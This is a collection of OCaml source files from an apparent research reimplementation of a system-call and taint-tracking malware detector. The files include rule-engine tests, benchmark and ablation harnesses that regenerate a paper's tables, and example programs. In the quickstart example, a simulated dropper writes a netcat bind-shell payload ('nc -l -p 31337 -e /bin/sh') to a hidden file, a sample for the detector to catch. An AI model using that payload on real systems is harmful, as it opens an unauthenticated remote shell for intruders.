  check "str-cat" true (ev "(str-cat \"a\" 1 b)" = Value.Str "a1b");
  check "length of string" true (ev "(length \"abc\")" = Value.Int 3)

let test_engine_negation_after_retract () =
  (* negation is re-evaluated per run: once the blocker is retracted the
     previously-blocked activation becomes available *)
  let e = fresh_engine () in
  let hits = ref 0 in
  Engine.defrule e
    (Engine.rule ~name:"r"
       ~negated:
         [ Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "blocker") ] ]
       [ Pattern.make "ev" [ "kind", Pattern.Lit (Value.Sym "x") ] ]
       (fun _ _ _ -> incr hits));
  ignore (Engine.assert_fact e "ev" [ "kind", Value.Sym "x" ]);
  let blocker = Engine.assert_fact e "ev" [ "kind", Value.Sym "blocker" ] in
  ignore (Engine.run e);
  check_int "blocked" 0 !hits;
  Engine.retract e blocker;
  ignore (Engine.run e);
  check_int "unblocked after retract" 1 !hits

let test_clips_not_ce () =
  let e =
    clips_engine
      {|(deftemplate job (slot id) (slot state))
        (defrule stuck (job (id ?i) (state running))
          (not (job (id ?i) (state done))) =>
          (printout t "stuck " ?i crlf))
        (assert (job (id 1) (state running)))
        (assert (job (id 1) (state done)))
        (assert (job (id 2) (state running)))|}
  in
  ignore (Engine.run e);
  Alcotest.(check (list string)) "not CE in clips" [ "stuck 2" ]
    (Engine.drain_output e)

let test_clips_deffunction () =
  let e =
    clips_engine
      {|(deffunction danger-score (?freq ?time)
          (+ (* 10 ?freq) ?time))
        (deftemplate ev2 (slot f) (slot t))
        (defrule scored (ev2 (f ?f) (t ?t))
          (test (> (danger-score ?f ?t) 100)) =>
          (printout t "score " (danger-score ?f ?t) crlf))
        (assert (ev2 (f 1) (t 5)))
        (assert (ev2 (f 10) (t 50)))|}
  in
  ignore (Engine.run e);
  Alcotest.(check (list string)) "deffunction in tests and actions"
    [ "score 150" ]
    (Engine.drain_output e);
  (* arity is checked *)
  match Engine.call_fn e "danger-score" [ Value.Int 1 ] with
  | exception Clips.Error _ -> ()
  | _ -> Alcotest.fail "bad arity accepted"

let test_clips_bad_forms () =
  List.iter
    (fun src ->
      match clips_engine src with
      | exception Clips.Error _ -> ()
      | _ -> Alcotest.fail ("accepted bad form " ^ src))
    [ "(defrule)"; "(deftemplate t (slot))"; "(frobnicate 1)";
      "(defrule r (t (x ?v)) (printout t ?v))" (* missing => *) ]

let suite =
  [ Alcotest.test_case "value truthiness" `Quick test_value_truthy;
    Alcotest.test_case "value equality" `Quick test_value_equal;
    Alcotest.test_case "value text" `Quick test_value_text;
    Alcotest.test_case "template defaults" `Quick test_template_defaults;
    Alcotest.test_case "template unknown slot" `Quick
      test_template_unknown_slot;
    Alcotest.test_case "fact slots" `Quick test_fact_slots;
    Alcotest.test_case "pattern literal" `Quick test_pattern_literal;
    Alcotest.test_case "pattern variable binding" `Quick
      test_pattern_var_binding;
    Alcotest.test_case "pattern variable consistency" `Quick
      test_pattern_var_consistency;
    Alcotest.test_case "pattern fact binding" `Quick
      test_pattern_fact_binding;
    Alcotest.test_case "pattern template mismatch" `Quick
      test_pattern_template_mismatch;
    Alcotest.test_case "pattern missing slot" `Quick
      test_pattern_missing_slot;
    Alcotest.test_case "pattern predicate" `Quick test_pattern_pred;
    Alcotest.test_case "engine assert/retract" `Quick
      test_engine_assert_retract;
    Alcotest.test_case "engine unknown template" `Quick
      test_engine_unknown_template;
    Alcotest.test_case "engine fires matching rule" `Quick
      test_engine_fires;
    Alcotest.test_case "engine refraction" `Quick test_engine_refraction;
    Alcotest.test_case "engine salience" `Quick test_engine_salience;
    Alcotest.test_case "engine multi-pattern join" `Quick test_engine_join;
    Alcotest.test_case "engine guard" `Quick test_engine_guard;
    Alcotest.test_case "engine cascade" `Quick test_engine_cascade;
    Alcotest.test_case "engine firing limit" `Quick test_engine_limit;
    Alcotest.test_case "engine negated CE" `Quick test_engine_negated;
    Alcotest.test_case "engine negated CE with bindings" `Quick
      test_engine_negated_binding;
    Alcotest.test_case "clips not CE" `Quick test_clips_not_ce;
    Alcotest.test_case "engine output capture" `Quick test_engine_output;
    Alcotest.test_case "engine functions and globals" `Quick
      test_engine_functions_globals;
    Alcotest.test_case "sexp atoms and strings" `Quick test_sexp_atoms;
    Alcotest.test_case "sexp nesting" `Quick test_sexp_nesting;
    Alcotest.test_case "sexp comments" `Quick test_sexp_comments;
    Alcotest.test_case "sexp errors" `Quick test_sexp_errors;
    Alcotest.test_case "clips deftemplate/assert" `Quick
      test_clips_deftemplate_assert;
    Alcotest.test_case "clips rule fires" `Quick test_clips_rule_fires;
    Alcotest.test_case "clips bind/if/else" `Quick test_clips_bind_if_else;
    Alcotest.test_case "clips retract via binding" `Quick
      test_clips_retract;
    Alcotest.test_case "clips globals" `Quick test_clips_globals;
    Alcotest.test_case "clips builtins" `Quick test_clips_builtins;
    Alcotest.test_case "clips deffunction" `Quick test_clips_deffunction;
    Alcotest.test_case "clips rejects bad forms" `Quick
      test_clips_bad_forms;
    Alcotest.test_case "negation re-evaluated after retract" `Quick
      test_engine_negation_after_retract ]
