(* Plain-text table rendering for the bench reports. *)

let render ~headers rows =
  let all = headers :: rows in
  let cols = List.length headers in
  let width c =
    List.fold_left
      (fun acc row ->
        match List.nth_opt row c with
        | Some cell -> max acc (String.length cell)
        | None -> acc)
      0 all
  in
  let widths = List.init cols width in
  let line ch =
    "+"
    ^ String.concat "+"
        (List.map (fun w -> String.make (w + 2) ch) widths)
    ^ "+"
  in
  let render_row row =
    "|"
    ^ String.concat "|"
        (List.mapi
           (fun c w ->
             let cell =
               match List.nth_opt row c with Some s -> s | None -> ""
             in
             " " ^ cell ^ String.make (w - String.length cell + 1) ' ')
           widths)
    ^ "|"
  in
  String.concat "\n"
    ([ line '-'; render_row headers; line '=' ]
     @ List.map render_row rows
     @ [ line '-' ])

let print ~title ~headers rows =
  Printf.printf "\n== %s ==\n%s\n" title (render ~headers rows)
