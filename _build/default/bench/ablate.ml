(* Ablations for the design choices DESIGN.md calls out:
   - gethostbyname short-circuiting (Section 7.2),
   - the trust database (the ElmExploit miss, Section 8.3.1),
   - data-flow tracking itself,
   - basic-block frequency (the Medium escalation of Table 4). *)

let run_with ?monitor_config ?trust (sc : Guest.Scenario.t) =
  Hth.Session.run ?monitor_config ?trust sc.sc_setup

let verdict ?monitor_config ?trust sc =
  Hth.Report.verdict_label
    (Hth.Report.verdict (run_with ?monitor_config ?trust sc))

let find name =
  match Guest.Corpus.find name with
  | Some sc -> sc
  | None -> failwith ("ablate: unknown scenario " ^ name)

let shortcircuit () =
  let off =
    { Harrier.Monitor.default_config with shortcircuit = [] }
  in
  let rows =
    List.map
      (fun name ->
        let sc = find name in
        [ name; verdict sc; verdict ~monitor_config:off sc ])
      [ "File->Socket: Hardcoded, Hardcoded";
        "File->Socket: User input, User Input";
        "Binary->Socket: Hardcoded address";
        "Binary->Socket: User address" ]
  in
  Grid.print
    ~title:
      "Ablation: gethostbyname short-circuit (Section 7.2). Without it, \
       resolved addresses inherit the hosts-database tag and socket-name \
       origins are misclassified"
    ~headers:[ "Scenario"; "short-circuit ON"; "short-circuit OFF" ]
    rows

let trust () =
  let execve_warned (r : Hth.Session.result) =
    List.exists
      (fun (w : Secpert.Warning.t) -> String.equal w.rule "check_execve")
      r.warnings
  in
  let describe ?trust sc =
    let r = run_with ?trust sc in
    Printf.sprintf "%s, execve warn: %b"
      (Hth.Report.verdict_label (Hth.Report.verdict r))
      (execve_warned r)
  in
  let rows =
    List.map
      (fun name ->
        let sc = find name in
        [ name; describe sc; describe ~trust:Secpert.Trust.nothing sc ])
      [ "ElmExploit"; "make clean"; "ls" ]
  in
  Grid.print
    ~title:
      "Ablation: trust database. With nothing trusted, libc's own \
       hard-coded strings (e.g. \"/bin/sh\" inside system()) raise \
       warnings — the ElmExploit exec is no longer missed"
    ~headers:[ "Scenario"; "default trust"; "trust nothing" ]
    rows

let dataflow () =
  let off =
    { Harrier.Monitor.default_config with track_dataflow = false }
  in
  let rows =
    List.map
      (fun name ->
        let sc = find name in
        [ name; verdict sc; verdict ~monitor_config:off sc ])
      [ "grabem"; "vixie crontab"; "Hardcode"; "superforker" ]
  in
  Grid.print
    ~title:
      "Ablation: data-flow tracking. Without taint, name origins are \
       unknown and only resource-abuse rules can fire"
    ~headers:[ "Scenario"; "dataflow ON"; "dataflow OFF" ]
    rows

let frequency () =
  let off =
    { Harrier.Monitor.default_config with track_frequency = false }
  in
  let rows =
    List.map
      (fun name ->
        let sc = find name in
        [ name; verdict sc; verdict ~monitor_config:off sc ])
      [ "Infrequent execve"; "Hardcode" ]
  in
  Grid.print
    ~title:
      "Ablation: basic-block frequency. Without it the rarely-executed \
       reinforcement (Low -> Medium) cannot fire"
    ~headers:[ "Scenario"; "frequency ON"; "frequency OFF" ]
    rows

let all () =
  shortcircuit ();
  trust ();
  dataflow ();
  frequency ()
