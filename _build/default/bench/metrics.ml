(* Detection metrics across the whole corpus: the aggregate view of the
   paper's accuracy story (Sections 8.2/8.3): detection rate on
   malicious scenarios, false-positive rate on benign ones, and severity
   agreement. *)

let run () =
  let results =
    List.map
      (fun (sc : Guest.Scenario.t) ->
        sc, Hth.Report.verdict (Guest.Scenario.run sc))
      Guest.Corpus.all
  in
  let is_malicious (sc : Guest.Scenario.t) =
    match sc.sc_expected with
    | Guest.Scenario.Benign -> false
    | Guest.Scenario.Malicious _ -> true
  in
  let detected = function
    | Hth.Report.Benign -> false
    | Hth.Report.Suspicious _ -> true
  in
  let count p = List.length (List.filter p results) in
  let tp = count (fun (sc, v) -> is_malicious sc && detected v) in
  let fn = count (fun (sc, v) -> is_malicious sc && not (detected v)) in
  let fp = count (fun (sc, v) -> (not (is_malicious sc)) && detected v) in
  let tn = count (fun (sc, v) -> (not (is_malicious sc)) && not (detected v))
  in
  let exact =
    count (fun (sc, v) -> Guest.Scenario.matches sc.sc_expected v)
  in
  let pct a b = if b = 0 then "-" else Printf.sprintf "%.0f%%" (100. *. float a /. float b) in
  Grid.print ~title:"Corpus detection metrics"
    ~headers:[ "Metric"; "Value" ]
    [ [ "scenarios"; string_of_int (List.length results) ];
      [ "malicious detected (TP)"; Printf.sprintf "%d / %d (%s)" tp (tp + fn) (pct tp (tp + fn)) ];
      [ "malicious missed (FN)"; string_of_int fn ];
      [ "benign clean (TN)"; Printf.sprintf "%d / %d (%s)" tn (tn + fp) (pct tn (tn + fp)) ];
      [ "benign flagged (FP)"; string_of_int fp ];
      [ "exact severity agreement"; Printf.sprintf "%d / %d (%s)" exact (List.length results) (pct exact (List.length results)) ] ];
  (* expected FPs per the paper: xeyes/make/g++ warn Low on trusted
     behaviour; in this corpus those are *expected* Malicious Low, so FP
     here counts only unexpected flags *)
  if fp > 0 || fn > 0 then
    Printf.printf
      "note: nonzero FP/FN indicates disagreement with the scenario \
       expectations — see the classification tables.\n"
