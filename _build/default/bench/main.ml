(* The benchmark harness: regenerates every table and figure of the
   paper's evaluation, plus the Section 9 performance study, the design
   ablations and the Appendix B static check.

     dune exec bench/main.exe            -- everything
     dune exec bench/main.exe table6     -- one artifact
     dune exec bench/main.exe perf       -- Bechamel timings only *)

let usage () =
  print_endline
    "usage: main.exe [table1|table2|table3|table4|table5|table6|table7|\
     table8|macro|extensions|metrics|fig5|perf|ablate|secure|all]"

let dispatch = function
  | "table1" -> Tables.table1 ()
  | "table2" -> Tables.table2 ()
  | "table3" -> Tables.table3 ()
  | "table4" -> Tables.table4 ()
  | "table5" -> Tables.table5 ()
  | "table6" -> Tables.table6 ()
  | "table7" -> Tables.table7 ()
  | "table8" -> Tables.table8 ()
  | "macro" -> Tables.macro ()
  | "extensions" -> Tables.extensions ()
  | "metrics" -> Metrics.run ()
  | "fig5" -> Tables.fig5 ()
  | "perf" -> Perf.run ()
  | "ablate" -> Ablate.all ()
  | "secure" -> Secure.run ()
  | "all" ->
    Tables.all ();
    Metrics.run ();
    Ablate.all ();
    Secure.run ();
    Perf.run ()
  | arg ->
    Printf.eprintf "unknown artifact %S\n" arg;
    usage ();
    exit 2

let () =
  match Array.to_list Sys.argv with
  | _ :: [] -> dispatch "all"
  | _ :: args -> List.iter dispatch args
  | [] -> usage ()
