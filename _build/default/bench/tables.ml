(* Regeneration of every table of the paper's evaluation section. *)

let verdict_cell (v : Hth.Report.verdict) =
  match v with
  | Hth.Report.Benign -> "benign"
  | Hth.Report.Suspicious s -> "warn " ^ Secpert.Severity.label s

let mark ok = if ok then "ok" else "MISMATCH"

(* One row per scenario: name, expected, observed, agreement. *)
let run_scenarios scenarios =
  List.map
    (fun (sc : Guest.Scenario.t) ->
      let r = Guest.Scenario.run sc in
      let v = Hth.Report.verdict r in
      ( sc, r, v ))
    scenarios

let classification_table ~title scenarios =
  let rows = run_scenarios scenarios in
  let cells =
    List.map
      (fun ((sc : Guest.Scenario.t), (r : Hth.Session.result), v) ->
        [ sc.sc_name; Guest.Scenario.expected_label sc.sc_expected;
          verdict_cell v; mark (Guest.Scenario.matches sc.sc_expected v);
          string_of_int (List.length r.distinct) ])
      rows
  in
  Grid.print ~title
    ~headers:[ "Benchmark"; "Expected"; "HTH verdict"; "Agrees"; "Warnings" ]
    cells;
  let ok =
    List.length
      (List.filter
         (fun ((sc : Guest.Scenario.t), _, v) ->
           Guest.Scenario.matches sc.sc_expected v)
         rows)
  in
  Printf.printf "Correctly classified: %d / %d\n" ok (List.length rows)

let group_scenarios gid =
  match
    List.find_opt (fun (g, _, _) -> String.equal g gid) Guest.Corpus.groups
  with
  | Some (_, title, scs) -> title, scs
  | None -> invalid_arg ("unknown group " ^ gid)

(* Table 1: execution patterns derived from monitored runs. *)
let table1 () =
  let _, scs = group_scenarios "table1" in
  let rows =
    List.map
      (fun (sc : Guest.Scenario.t) ->
        let r = Guest.Scenario.run sc in
        let p = Hth.Patterns.derive r in
        sc.sc_name :: Hth.Patterns.row p)
      scs
  in
  Grid.print
    ~title:
      "Table 1: Execution patterns exhibited by malicious code (derived \
       from monitored runs)"
    ~headers:
      [ "Exploit Name"; "No user intervention"; "Remotely directed";
        "Hard-coded Resources"; "Degrading performance" ]
    rows

(* Table 2: data source combinations. *)
let table2 () =
  let rows =
    List.map
      (fun (ds, origin) ->
        [ ds;
          (match origin with Some o -> o | None -> "-") ])
      Taint.Origin.combinations
  in
  Grid.print ~title:"Table 2: Data source combinations"
    ~headers:[ "Data Source"; "Resource ID (Origin) Data Source" ]
    rows

(* Table 3: instrumentation granularities. *)
let table3 () =
  Grid.print
    ~title:"Table 3: Information gathered in different instrumentation \
            granularities"
    ~headers:[ "Policy rule"; "Instrumentation granularity";
               "Information gathered" ]
    (List.map
       (fun (a, b, c) -> [ a; b; c ])
       Harrier.Monitor.instrumentation_table)

let table4 () =
  let title, scs = group_scenarios "table4" in
  classification_table ~title:("Table 4: " ^ title) scs

let table5 () =
  let title, scs = group_scenarios "table5" in
  classification_table ~title:("Table 5: " ^ title) scs

let table6 () =
  let title, scs = group_scenarios "table6" in
  classification_table ~title:("Table 6: " ^ title) scs

let table7 () =
  let title, scs = group_scenarios "table7" in
  classification_table ~title:("Table 7: " ^ title) scs

let table8 () =
  let title, scs = group_scenarios "table8" in
  classification_table ~title:("Table 8: " ^ title) scs;
  (* the paper prints the warning transcripts for each exploit *)
  List.iter
    (fun (sc : Guest.Scenario.t) ->
      let r = Guest.Scenario.run sc in
      Printf.printf "\n--- %s ---\n" sc.sc_name;
      List.iter
        (fun w -> Printf.printf "%s\n" (Secpert.Warning.to_string w))
        r.distinct;
      if r.distinct = [] then
        Printf.printf "(no warnings — see Section 8.3.1 for why the \
                       system() exec is filtered)\n")
    (snd (group_scenarios "table8"))

let macro () =
  let title, scs = group_scenarios "macro" in
  classification_table ~title:("Section 8.4: " ^ title) scs

let extensions () =
  let title, scs = group_scenarios "extensions" in
  classification_table ~title scs

(* Fig. 5: the instrumentation a program receives. *)
let fig5 () =
  let img =
    let open Asm in
    let u =
      create ~path:"/bin/fig5" ~kind:Binary.Image.Executable ~base:0x1000 ()
    in
    label u "_start";
    movl u edi eax;
    jnz u "skip";
    movl u ebx (imm 0);
    xorl u edx edx;
    movl u ecx esi;
    movl u eax (imm 5);
    int80 u;
    label u "skip";
    hlt u;
    finalize u
  in
  Printf.printf
    "\n== Fig. 5: Harrier instrumentation example ==\n\
     original code              | instrumented execution\n\
     ---------------------------+------------------------------------\n";
  Array.iteri
    (fun i insn ->
      let pre =
        if i = 0 then "Call Collect_BB_Frequency\n"
        else if Isa.Insn.writes_control_flow img.text.(max 0 (i - 1)) then
          "Call Collect_BB_Frequency\n"
        else ""
      in
      let call =
        match insn with
        | Isa.Insn.Int 0x80 -> "Call Monitor_SystemCalls"
        | Isa.Insn.Jcc _ | Isa.Insn.Jmp _ | Isa.Insn.Hlt -> ""
        | _ -> "Call Track_DataFlow"
      in
      String.split_on_char '\n' (pre ^ call)
      |> List.iter (fun line ->
             if line <> "" then Printf.printf "%-27s| %s\n" "" line);
      Printf.printf "%-27s|\n" (Isa.Insn.to_string insn))
    img.text

let all () =
  table1 ();
  table2 ();
  table3 ();
  table4 ();
  table5 ();
  table6 ();
  table7 ();
  table8 ();
  macro ();
  extensions ();
  fig5 ()
