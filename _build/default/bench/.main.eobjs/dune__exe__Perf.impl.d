bench/perf.ml: Analyze Bechamel Benchmark Grid Guest Harrier Hashtbl Hth Instance List Measure Printf Secpert Staged Taint Test Time Toolkit
