bench/tables.ml: Array Asm Binary Grid Guest Harrier Hth Isa List Printf Secpert String Taint
