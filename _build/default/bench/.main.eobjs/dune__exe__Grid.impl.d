bench/grid.ml: List Printf String
