bench/main.mli:
