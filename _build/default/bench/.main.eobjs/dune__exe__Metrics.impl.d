bench/metrics.ml: Grid Guest Hth List Printf
