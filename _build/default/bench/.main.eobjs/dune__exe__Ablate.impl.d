bench/ablate.ml: Grid Guest Harrier Hth List Printf Secpert String
