bench/secure.ml: Binary Grid Guest Hashtbl Hth List Option String
