bench/main.ml: Ablate Array List Metrics Perf Printf Secure Sys Tables
