(* Appendix B: the Secure Binary static check, applied across the guest
   corpus's main executables. *)

let images () =
  List.filter_map
    (fun (sc : Guest.Scenario.t) ->
      let main = sc.sc_setup.main in
      List.find_opt
        (fun (img : Binary.Image.t) -> String.equal img.path main)
        sc.sc_setup.programs
      |> Option.map (fun img -> sc, img))
    Guest.Corpus.all

let run () =
  let seen = Hashtbl.create 16 in
  let rows =
    List.filter_map
      (fun ((sc : Guest.Scenario.t), img) ->
        if Hashtbl.mem seen (img : Binary.Image.t).path then None
        else begin
          Hashtbl.replace seen img.path ();
          let violations = Hth.Secure_binary.check img in
          let malicious =
            match sc.sc_expected with
            | Guest.Scenario.Benign -> "benign"
            | Guest.Scenario.Malicious _ -> "malicious"
          in
          Some
            [ img.path;
              (if violations = [] then "SECURE" else "not secure");
              string_of_int (List.length violations); malicious ]
        end)
      (images ())
  in
  Grid.print
    ~title:
      "Appendix B: Secure Binary static check (no hard-coded data used as \
       a resource name or payload)"
    ~headers:
      [ "Image"; "verdict"; "violations"; "dynamic expectation" ]
    rows
