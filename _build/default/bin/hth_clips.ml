(* hth_clips: an interactive shell for the expert-system substrate.

   Reads CLIPS-style forms from stdin (or files given on the command
   line), maintaining one engine across inputs.  Besides the constructs
   the loader understands (deftemplate, defrule, defglobal, assert),
   the shell provides:

     (facts)          list working memory
     (rules)          count installed rules
     (run)            run the agenda to quiescence
     (reset)          fresh engine (definitions are lost)
     (exit)           quit

   Example session:

     $ dune exec bin/hth_clips.exe
     CLIPS> (deftemplate n (slot v))
     CLIPS> (defrule big (n (v ?x)) (test (> ?x 10)) => (printout t "big!" crlf))
     CLIPS> (assert (n (v 50)))
     CLIPS> (run)
     big!
     FIRE 1 *)

let make_engine () =
  let e = Expert.Engine.create () in
  Expert.Clips.install_builtins e;
  e

let engine = ref (make_engine ())

let handle_form (form : Expert.Sexp.t) =
  match form with
  | Expert.Sexp.List [ Atom "facts" ] ->
    let facts = Expert.Engine.facts !engine in
    List.iter (fun f -> Fmt.pr "%a@." Expert.Fact.pp f) (List.rev facts);
    Fmt.pr "For a total of %d facts.@." (List.length facts)
  | Expert.Sexp.List [ Atom "rules" ] ->
    Fmt.pr "(rule inspection not tracked; engine accepts defrule)@."
  | Expert.Sexp.List [ Atom "run" ] ->
    let fired = Expert.Engine.run !engine in
    List.iter print_endline (Expert.Engine.drain_output !engine);
    Fmt.pr "FIRE %d@." fired
  | Expert.Sexp.List [ Atom "reset" ] -> engine := make_engine ()
  | Expert.Sexp.List [ Atom "exit" ] | Expert.Sexp.List [ Atom "quit" ] ->
    exit 0
  | form ->
    let text = Fmt.to_to_string Expert.Sexp.pp form in
    (try Expert.Clips.load !engine text with
     | Expert.Clips.Error msg -> Fmt.epr "error: %s@." msg
     | Failure msg -> Fmt.epr "error: %s@." msg);
    List.iter print_endline (Expert.Engine.drain_output !engine)

let feed text =
  match Expert.Sexp.parse_all text with
  | exception Expert.Sexp.Parse_error msg -> Fmt.epr "parse error: %s@." msg
  | forms -> List.iter handle_form forms

(* Accumulate lines until the parentheses balance, so multi-line rules
   can be typed naturally. *)
let balanced s =
  let depth = ref 0 and in_str = ref false in
  String.iter
    (fun c ->
      match c with
      | '"' -> in_str := not !in_str
      | '(' when not !in_str -> incr depth
      | ')' when not !in_str -> decr depth
      | _ -> ())
    s;
  !depth <= 0

let repl () =
  let interactive = Unix.isatty Unix.stdin in
  let buf = Buffer.create 256 in
  (try
     while true do
       if interactive && Buffer.length buf = 0 then Fmt.pr "CLIPS> %!"
       else if interactive then Fmt.pr "   ... %!";
       let line = input_line stdin in
       Buffer.add_string buf line;
       Buffer.add_char buf '\n';
       if balanced (Buffer.contents buf) then begin
         let text = Buffer.contents buf in
         Buffer.clear buf;
         if String.trim text <> "" then feed text
       end
     done
   with End_of_file -> ());
  if Buffer.length buf > 0 then feed (Buffer.contents buf)

let () =
  let args = List.tl (Array.to_list Sys.argv) in
  if args = [] then repl ()
  else
    List.iter
      (fun path ->
        let ic = open_in path in
        let len = in_channel_length ic in
        let text = really_input_string ic len in
        close_in ic;
        feed text)
      args
