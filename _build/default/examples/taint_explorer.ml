(* Taint explorer: watch provenance move through a program.

   Runs the Table 6 "File->Socket: Hardcoded, Hardcoded" micro-benchmark
   and prints (1) the raw Harrier event stream with full tag sets, and
   (2) the gethostbyname short-circuit at work — the same run with the
   short-circuit disabled mis-attributes the socket address to the hosts
   database.  Finally it runs the Appendix B static Secure Binary check
   on the same image.

     dune exec examples/taint_explorer.exe *)

let find name =
  match Guest.Corpus.find name with
  | Some sc -> sc
  | None -> failwith ("missing corpus scenario: " ^ name)

let connect_events (r : Hth.Session.result) =
  List.filter_map
    (function
      | Harrier.Events.Access { call = "SYS_connect"; res; _ } ->
        Some (Fmt.str "connect to %s, address origin %a" res.r_name
                Taint.Tagset.pp res.r_origin)
      | _ -> None)
    r.events

let () =
  let sc = find "File->Socket: Hardcoded, Hardcoded" in
  let r = Hth.Session.run sc.sc_setup in
  Fmt.pr "=== event stream (%d events) ===@." r.event_count;
  List.iter (fun e -> Fmt.pr "  %a@." Harrier.Events.pp e) r.events;

  Fmt.pr "@.=== gethostbyname short-circuit (Section 7.2) ===@.";
  Fmt.pr "with short-circuit:@.";
  List.iter (Fmt.pr "  %s@.") (connect_events r);
  let no_sc =
    Hth.Session.run
      ~monitor_config:
        { Harrier.Monitor.default_config with shortcircuit = [] }
      sc.sc_setup
  in
  Fmt.pr "without short-circuit (address origin degrades to the hosts \
          database):@.";
  List.iter (Fmt.pr "  %s@.") (connect_events no_sc);

  Fmt.pr "@.=== Appendix B: Secure Binary static check ===@.";
  let image =
    List.find
      (fun (img : Binary.Image.t) -> String.equal img.path sc.sc_setup.main)
      sc.sc_setup.programs
  in
  match Hth.Secure_binary.check image with
  | [] -> Fmt.pr "%s is a Secure Binary@." image.path
  | violations ->
    Fmt.pr "%s is NOT a Secure Binary:@." image.path;
    List.iter
      (fun v -> Fmt.pr "  %a@." Hth.Secure_binary.pp_violation v)
      violations
