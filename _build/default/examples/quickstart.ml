(* Quickstart: write a guest program with the assembler DSL, run it under
   full HTH monitoring, and read the warnings.

     dune exec examples/quickstart.exe

   The guest below is a classic dropper: it writes a hard-coded payload
   into a hard-coded file name — the signature HTH's information-flow
   policy flags as High severity. *)

let dropper =
  let open Asm in
  let u =
    create ~path:"/demo/dropper" ~kind:Binary.Image.Executable ~base:0x1000
      ()
  in
  Guest.Runtime.prologue u;
  asciz u "name" "/tmp/.backdoor";
  asciz u "payload" "#!/bin/sh\nnc -l -p 31337 -e /bin/sh\n";
  space u "fd" 4;
  label u "_start";
  Guest.Runtime.sys_creat u ~path:(lbl "name");
  movl u (mlbl "fd") eax;
  Guest.Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "payload")
    ~len:(imm 37);
  Guest.Runtime.sys_close u ~fd:(mlbl "fd");
  Guest.Runtime.sys_exit u 0;
  hlt u;
  finalize u

let () =
  (* 1. describe the world: which images exist, what the user typed,
        what the network looks like *)
  let setup =
    Hth.Session.setup ~programs:[ dropper ] ~main:"/demo/dropper" ()
  in
  (* 2. run it under Harrier + Secpert *)
  let result = Hth.Session.run setup in
  (* 3. inspect the outcome *)
  Fmt.pr "HTH verdict: %a@.@." Hth.Report.pp_verdict
    (Hth.Report.verdict result);
  List.iter
    (fun w -> Fmt.pr "%s@.@." (Secpert.Warning.to_string w))
    result.distinct;
  Fmt.pr "(%d events were analyzed; %d warnings fired)@."
    result.event_count
    (List.length result.warnings)
