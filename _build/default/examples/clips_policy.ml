(* The expert system speaks CLIPS: load the Appendix A.2 execve rule from
   its textual form, assert the Appendix A.1 fact, and watch it fire.

     dune exec examples/clips_policy.exe *)

let policy_text =
  {|
;; Appendix A: the execution-flow policy, in CLIPS syntax.
(defglobal ?*RARE_FREQUENCY* = 2)
(defglobal ?*LONG_TIME* = 2000)

(deftemplate system_call_access
  (slot system_call_name)
  (slot resource_name)
  (slot resource_type)
  (slot resource_origin_name)
  (slot resource_origin_type)
  (slot time)
  (slot frequency)
  (slot address))

(defrule check_execve "check execve"
  ?execve <- (system_call_access (system_call_name SYS_execve)
               (resource_name ?name)
               (resource_origin_name ?origin_name)
               (resource_origin_type ?origin_type)
               (time ?time) (frequency ?freq) (address ?addr))
  (test (or (eq ?origin_type BINARY) (eq ?origin_type SOCKET)))
  =>
  (bind ?warning 1)
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
    (bind ?warning 2))
  (if (eq ?origin_type SOCKET) then
    (bind ?warning 3))
  (print-warning ?warning)
  (printout t "Found SYS_execve call (" ?name ")" crlf)
  (printout t "        (" ?name ") originated from (" ?origin_name ")" crlf)
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
    (printout t "        This code is rarely executed..." crlf))
  (retract ?execve))
|}

let () =
  let engine = Expert.Engine.create () in
  (* host function: map the numeric warning level to the paper's label *)
  Expert.Engine.defun engine "print-warning" (fun args ->
      let level =
        match args with
        | [ Expert.Value.Int 3 ] -> "HIGH"
        | [ Expert.Value.Int 2 ] -> "MEDIUM"
        | _ -> "LOW"
      in
      Expert.Engine.printout engine ("Warning [" ^ level ^ "]");
      Expert.Value.sym_true);
  Expert.Clips.load engine policy_text;
  (* the fact of Appendix A.1 *)
  let fact =
    Expert.Engine.assert_fact engine "system_call_access"
      [ "system_call_name", Expert.Value.Sym "SYS_execve";
        "resource_name", Expert.Value.Str "/bin/ls";
        "resource_type", Expert.Value.Sym "FILE";
        "resource_origin_name",
        Expert.Value.Str "/MicroBenchmarks/execve/execve.exe";
        "resource_origin_type", Expert.Value.Sym "BINARY";
        "time", Expert.Value.Int 33; "frequency", Expert.Value.Int 1;
        "address", Expert.Value.Int 0x8048403 ]
  in
  Fmt.pr "asserted: %a@.@." Expert.Fact.pp fact;
  let fired = Expert.Engine.run engine in
  Fmt.pr "FIRE %d check_execve@." fired;
  List.iter print_endline (Expert.Engine.drain_output engine)
