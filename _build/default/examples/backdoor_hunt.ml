(* Backdoor hunt: monitor a remote-shell daemon (the pma exploit of
   Section 8.3.6) and let Secpert *kill* it as soon as a High-severity
   warning fires — standing in for the interactive user answering
   "stop" to the warning dialog.

     dune exec examples/backdoor_hunt.exe *)

let find name =
  match Guest.Corpus.find name with
  | Some sc -> sc
  | None -> failwith ("missing corpus scenario: " ^ name)

let describe title (r : Hth.Session.result) =
  Fmt.pr "--- %s ---@." title;
  Fmt.pr "verdict: %a, %d distinct warnings@." Hth.Report.pp_verdict
    (Hth.Report.verdict r)
    (List.length r.distinct);
  List.iter
    (fun (pid, exe, state) ->
      Fmt.pr "  pid %d %s: %a@." pid exe Osim.Process.pp_state state)
    r.os_report.rep_final;
  (match r.distinct with
   | w :: _ -> Fmt.pr "first warning:@.%s@." (Secpert.Warning.to_string w)
   | [] -> ());
  Fmt.pr "@."

let () =
  let pma = find "pma" in
  (* 1. observe only: the daemon runs to completion, every flow logged *)
  describe "observe (no enforcement)" (Hth.Session.run pma.sc_setup);
  (* 2. enforce: kill on the first High warning — the daemon dies before
        it can bridge the attacker to the shell pipes *)
  describe "enforce (kill at HIGH)"
    (Hth.Session.run ~auto_kill:Secpert.Severity.High pma.sc_setup)
