examples/clips_policy.mli:
