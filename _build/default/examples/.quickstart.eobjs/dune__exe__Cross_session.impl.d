examples/cross_session.ml: Fmt Guest Hth List Secpert
