examples/taint_explorer.mli:
