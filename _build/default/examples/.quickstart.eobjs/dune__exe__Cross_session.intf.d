examples/cross_session.mli:
