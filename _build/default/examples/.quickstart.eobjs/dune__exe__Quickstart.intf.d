examples/quickstart.mli:
