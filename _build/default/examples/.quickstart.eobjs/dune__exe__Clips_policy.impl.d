examples/clips_policy.ml: Expert Fmt List
